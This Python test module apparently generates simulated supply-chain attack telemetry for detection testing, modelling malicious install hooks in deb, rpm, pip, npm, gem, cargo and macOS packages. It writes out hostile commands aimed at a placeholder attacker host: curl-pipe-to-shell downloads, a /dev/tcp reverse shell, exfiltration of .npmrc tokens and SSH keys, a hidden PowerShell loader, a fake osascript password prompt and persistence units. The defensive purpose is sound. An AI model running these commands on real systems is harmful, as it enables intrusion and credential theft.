"""Attacks by way of package scripts and build hooks: on Linux, on macOS, and wherever developers install packages."""

from __future__ import annotations

from tests.company.developers import Tools
from tests.company.intrusions import Intrusion
from tests.company.journal import SECOND
from tests.company.macos import INSTALLD, LAUNCHD, SERVICE
from tests.company.maintainers import BASH, DASH, DPKG, PYTHON
from tests.company.processes import POWERSHELL, Process

_CURL, _RPM = "/usr/bin/curl", "/usr/bin/rpm"


def _sudo(attack: Intrusion, image: str, command: str, folder: str = "") -> Process:
    """The person becomes root and runs this."""
    shell = attack.place.known(BASH, "-bash")
    sudo = attack.start("/usr/bin/sudo", f"sudo {command}", shell, folder=folder)
    return attack.start(image, command, sudo, root=True, folder=folder)


def _postinst(attack: Intrusion, name: str, tool: Process) -> Process:
    script = f"/bin/sh /var/lib/dpkg/info/{name}.postinst configure"
    return attack.start(DASH, script, tool, root=True)


def _scriptlet(attack: Intrusion, tool: Process) -> Process:
    path = "".join(attack.rng.choice("abcdefghjkmnpqrstuvwxyzABCDEFGHJKMNPQRSTUVWXYZ") for _ in range(6))
    return attack.start(BASH, f"/bin/sh /var/tmp/rpm-tmp.{path} 1", tool, root=True)


# ---------------------------------------------------------------- Linux packages


def postinst_curl_sh(attack: Intrusion) -> None:
    """A package's postinst loads a script and runs it."""
    name = "system-monitor"
    dpkg = _sudo(attack, DPKG, f"dpkg -i {name}_1.4.2_amd64.deb", f"{attack.place.home}/Downloads")
    script = _postinst(attack, name, dpkg)
    line = f"sh -c curl -fsSL https://{attack.host}/i.sh | sh"
    pipe = attack.start(DASH, line, script, root=True, shows="curl | sh below a postinst")
    curl = attack.start(_CURL, f"curl -fsSL https://{attack.host}/i.sh", pipe, root=True)
    attack.calls(curl)
    shell = attack.start(DASH, "sh", pipe, root=True)
    started = attack.start("/usr/local/bin/.sysmon", "/usr/local/bin/.sysmon -d", shell, root=True)
    attack.calls(started)


def rpm_reverse_shell(attack: Intrusion) -> None:
    """A scriptlet opens a shell over /dev/tcp."""
    rpm = _sudo(attack, _RPM, "rpm -Uvh /home/jdoe/metrics-agent-2.1.x86_64.rpm")
    script = _scriptlet(attack, rpm)
    line = f"bash -c bash -i >& /dev/tcp/{attack.address}/4444 0>&1"
    shell = attack.start(BASH, line, script, root=True, shows="/dev/tcp below a scriptlet")
    attack.calls(shell, port=4444)
    attack.start("/usr/bin/id", "id", shell, root=True)


def rpm_from_tmp(attack: Intrusion) -> None:
    """A package in /tmp, installed with the switches that public rules do not know, leaves a unit and a cron job."""
    curl = attack.start(_CURL, f"curl -so /tmp/k.rpm http://{attack.address}/k.rpm", attack.place.known(BASH, "-bash"))
    attack.calls(curl, port=80)
    attack.file(curl, "/tmp/k.rpm")  # noqa: S108 - the attacker's choice
    rpm = _sudo(attack, _RPM, "rpm -ivh --nosignature /tmp/k.rpm")
    attack.shows("rpm -ivh of a file in /tmp")
    script = _scriptlet(attack, rpm)
    attack.file(script, "/etc/systemd/system/kworkerd.service")
    attack.file(script, "/etc/cron.d/kworkerd")
    attack.start("/usr/bin/systemctl", "systemctl enable --now kworkerd.service", script, root=True)
    miner = "/var/tmp/.k/kworkerd"  # noqa: S108 - the attacker's choice
    started = attack.start(miner, miner, attack.place.known("/usr/lib/systemd/systemd", root=True), root=True)
    attack.calls(started, port=3333)


def apt_from_home(attack: Intrusion) -> None:
    """Apt installs a file of a home folder; its postinst leaves a unit and starts it."""
    folder = f"{attack.place.home}/Downloads"
    apt = _sudo(attack, "/usr/bin/apt", "apt install ./meeting-client_5.2_amd64.deb", folder)
    unpack = "/usr/bin/dpkg --status-fd 19 --no-triggers --unpack --auto-deconfigure "
    attack.start(DPKG, f"{unpack}{folder}/meeting-client_5.2_amd64.deb", apt, root=True)
    dpkg = attack.start(DPKG, "/usr/bin/dpkg --status-fd 19 --configure --pending", apt, root=True)
    script = _postinst(attack, "meeting-client", dpkg)
    attack.file(script, "/etc/systemd/system/dbus-helper.service")
    helper = "/usr/lib/.dbus/dbus-helper"
    attack.start("/usr/bin/chmod", f"chmod 4755 {helper}", script, root=True)
    attack.start("/usr/bin/systemctl", "systemctl enable --now dbus-helper.service", script, root=True)
    code = "import base64,os;exec(base64.b64decode('aW1wb3J0IHNvY2tldA=='))"
    python = attack.start(PYTHON, f'python3 -c "{code}"', script, root=True, shows="python3 -c with base64")
    attack.calls(python)


# ---------------------------------------------------------------- pip


def pip_setup_curl(attack: Intrusion) -> None:
    """The published test 2: pip, setup.py, curl."""
    tools = Tools(attack.place)
    slash = tools.slash
    package = f"{tools.temporary}{slash}test_pkg"
    pip = attack.start(tools.python, f"python3 -m pip install {package}", tools.terminal(), folder=tools.project)
    setup = f"{tools.python} {package}{slash}setup.py egg_info"
    build = attack.start(tools.python, setup, pip, folder=package)
    image = "C:\\Windows\\System32\\curl.exe" if tools.windows else _CURL
    curl = attack.start(image, f"curl -s http://{attack.host}/callback?h=host", build, shows="curl below setup.py")
    attack.calls(curl, port=80)


def pip_other_index(attack: Intrusion) -> None:
    """Pip is told an index that nobody knows; what comes from there runs while it builds [dependency confusion]."""
    tools = Tools(attack.place)
    python = f'"{tools.python}"' if tools.windows else "python3"
    line = f"{python} -m pip install --index-url http://{attack.host}:8080/simple"
    line += f" --trusted-host {attack.host} internal-utils"
    pip = attack.start(tools.python, line, tools.terminal(), folder=tools.project, shows="an unknown index")
    attack.calls(pip, port=8080)
    setup = f'{python} -c "import os, sys, setuptools; exec(...)" egg_info'
    build = attack.start(tools.python, setup, pip)
    if tools.windows:
        code = f"iwr http://{attack.host}:8080/s.ps1 -OutFile $env:TEMP\\s.ps1; & $env:TEMP\\s.ps1"
        started = attack.start(POWERSHELL, f'powershell -w hidden -ep bypass -c "{code}"', build)
    else:
        started = attack.start(tools.shell, f"/bin/sh -c wget -qO- http://{attack.host}:8080/s | bash", build)
    attack.calls(started, port=8080)


def pip_path_file(attack: Intrusion) -> None:
    """A package leaves a .pth file that runs at every start of Python [LiteLLM, 2026-03]."""
    tools = Tools(attack.place)
    pip = attack.start(tools.python, "python3 -m pip install litellm==1.82.8", tools.terminal(), folder=tools.project)
    attack.place.connect(attack.time + SECOND, pip, "10.20.1.12", "packages.corp.example")
    attack.file(pip, f"{attack.place.home}/src/.venv/lib/python3.12/site-packages/litellm_init.pth")
    attack.shows("a .pth file in site-packages")
    attack.waits(60, 200)
    python = attack.start(tools.python, "python3 manage.py runserver", tools.terminal(), folder=tools.project)
    code = "import base64; exec(base64.b64decode('aW1wb3J0IG9zLHN1YnByb2Nlc3M='))"
    inner = attack.start(tools.python, f'{tools.python} -c "{code}"', python)
    attack.start("/usr/bin/cat", f"cat {attack.place.home}/.ssh/id_ed25519", inner)
    curl = attack.start(_CURL, f"curl -s -X POST https://{attack.host}/ --data-binary @/tmp/tpcp.tar.gz", inner)
    attack.calls(curl)


# ---------------------------------------------------------------- npm, gem, cargo


def npm_postinstall_steals(attack: Intrusion) -> None:
    """A postinstall reads the registry's token and posts it [npm campaigns of 2025]."""
    tools = Tools(attack.place)
    npm = attack.start(tools.node, tools.npm_command("install"), tools.terminal(), folder=tools.project)
    folder = tools.slash.join((tools.project, "app", "node_modules", "color-string-utils"))
    shell = attack.start(tools.shell, tools.hook("node postinstall.js"), npm, folder=folder)
    node = attack.start(tools.node, "node postinstall.js", shell, folder=folder)
    home = attack.place.home
    if tools.windows:
        attack.start(tools.shell, f"cmd.exe /d /s /c type {home}\\.npmrc", node, shows="a shell reads .npmrc")
        image, data = "C:\\Windows\\System32\\curl.exe", f"@{home}\\.npmrc"
    else:
        attack.start("/bin/cat" if tools.place.system == "macos" else "/usr/bin/cat", f"cat {home}/.npmrc", node)
        image, data = _CURL, f"@{home}/.npmrc"
    curl = attack.start(image, f"curl -s -X POST -d {data} https://{attack.host}/c", node, shows="curl posts .npmrc")
    attack.calls(curl)


def npm_preinstall_bun(attack: Intrusion) -> None:
    """A preinstall brings another runtime and runs the payload in that [Shai-Hulud, 2025-11]."""
    tools = Tools(attack.place)
    npm = attack.start(tools.node, tools.npm_command("install"), tools.terminal(), folder=tools.project)
    folder = tools.slash.join((tools.project, "app", "node_modules", "posthog-helper"))
    shell = attack.start(tools.shell, tools.hook("node setup_bun.js"), npm, folder=folder)
    node = attack.start(tools.node, "node setup_bun.js", shell, folder=folder)
    if tools.windows:
        load = 'powershell -c "irm bun.sh/install.ps1|iex"'
        loader = attack.start(POWERSHELL, load, node, shows="a runtime is loaded below npm")
        bun = f"{attack.place.home}\\.bun\\bin\\bun.exe"
    else:
        sh = attack.start(tools.shell, "/bin/sh -c curl -fsSL https://bun.sh/install | bash", node, shows="curl | bash")
        loader = attack.start(_CURL, "curl -fsSL https://bun.sh/install", sh)
        bun = f"{attack.place.home}/.bun/bin/bun"
    attack.place.connect(attack.time + SECOND, loader, "93.184.216.70", "bun.sh")
    attack.waits(4, 9)
    started = attack.start(bun, f"{bun} run bun_environment.js", node, folder=folder)
    attack.calls(started)


def gem_extension(attack: Intrusion) -> None:
    """The extconf.rb of a gem runs a shell."""
    tools = Tools(attack.place)
    ruby = "/usr/bin/ruby3.2"
    gem = attack.start(ruby, "ruby /usr/bin/gem install rest-client-fast", tools.terminal())
    build = attack.start(ruby, "/usr/bin/ruby3.2 -I/usr/lib/ruby/vendor_ruby extconf.rb", gem)
    line = f"sh -c wget -q http://{attack.host}/x -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x"
    shell = attack.start(tools.shell, line, build, shows="wget and chmod below extconf.rb")
    wget = attack.start("/usr/bin/wget", f"wget -q http://{attack.host}/x -O /tmp/.x", shell)
    attack.calls(wget, port=80)
    started = attack.start("/tmp/.x", "/tmp/.x", shell)  # noqa: S108 - the attacker's choice
    attack.calls(started)


def cargo_build_script(attack: Intrusion) -> None:
    """The build script of a crate runs curl."""
    tools = Tools(attack.place)
    bins = f"{attack.place.home}/.cargo/bin"
    cargo = attack.start(f"{bins}/cargo", "cargo build", tools.terminal(), folder=tools.project)
    path = f"{tools.project}/target/debug/build/faster-log-{attack.rng.getrandbits(64):016x}/build-script-build"
    build = attack.start(path, path, cargo, folder=tools.project)
    line = f"/bin/sh -c curl -s https://{attack.host}/b -o /tmp/.b; chmod +x /tmp/.b; nohup /tmp/.b &"
    shell = attack.start(tools.shell, line, build, shows="curl and chmod below a build script")
    curl = attack.start(_CURL, f"curl -s https://{attack.host}/b -o /tmp/.b", shell)
    attack.calls(curl)


# ---------------------------------------------------------------- macOS packages


def _package(attack: Intrusion, shell: str, name: str, file: str) -> Process:
    """A person opens a package in Installer; its postinstall begins."""
    place = attack.place
    browser = place.known("/Applications/Safari.app/Contents/MacOS/Safari")
    attack.file(browser, f"{place.home}/Downloads/{file}")
    attack.waits(20, 60)
    image = "/System/Library/CoreServices/Installer.app/Contents/MacOS/Installer"
    attack.start(image, image, place.known(LAUNCHD, root=True))
    attack.waits(10, 30)
    letters = "".join(attack.rng.choice("abcdefghkmnpqrstuvwxyzABCDEFGHKLMNPQRSTUVWXYZ") for _ in range(6))
    script = f"/tmp/PKInstallSandbox.{letters}/Scripts/{name}.{letters[::-1]}/postinstall"  # noqa: S108 - as macOS names it
    line = f"{shell} {script} {place.home}/Downloads/{file} / / /"
    return attack.start(shell, line, place.known(SERVICE, root=True), root=True)


def macos_zsh_osascript(attack: Intrusion) -> None:
    """A postinstall in zsh loads a program, and asks for the password by osascript [stealers; Sigma knows no zsh]."""
    script = _package(attack, "/bin/zsh", "com.update.helper", "UpdateHelper.pkg")
    curl = attack.start(_CURL, f"curl -fsSL https://{attack.host}/agent -o /private/tmp/.agent", script, root=True)
    attack.calls(curl)
    dialog = 'display dialog "macOS needs your password" default answer "" with hidden answer'
    attack.start("/usr/bin/osascript", f"osascript -e {dialog}", script, root=True, shows="osascript asks a password")
    attack.start("/bin/chmod", "chmod +x /private/tmp/.agent", script, root=True)
    started = attack.start("/private/tmp/.agent", "/private/tmp/.agent", script, root=True)
    attack.calls(started)


def macos_python_daemon(attack: Intrusion) -> None:
    """A postinstall decodes Python and leaves a LaunchDaemon."""
    script = _package(attack, "/bin/bash", "org.media.codec", "CodecPack.pkg")
    code = "import base64;exec(base64.b64decode('aW1wb3J0IHVybGxpYg=='))"
    python = attack.start("/usr/bin/python3", f'python3 -c "{code}"', script, root=True, shows="python3 with base64")
    attack.calls(python)
    attack.file(script, "/Library/LaunchDaemons/com.apple.softwareupdate.helper.plist")
    attack.file(attack.place.known(INSTALLD, root=True), "/Users/Shared/.update/helper")
    load = "launchctl load -w /Library/LaunchDaemons/com.apple.softwareupdate.helper.plist"
    attack.start("/bin/launchctl", load, script, root=True, shows="a LaunchDaemon")
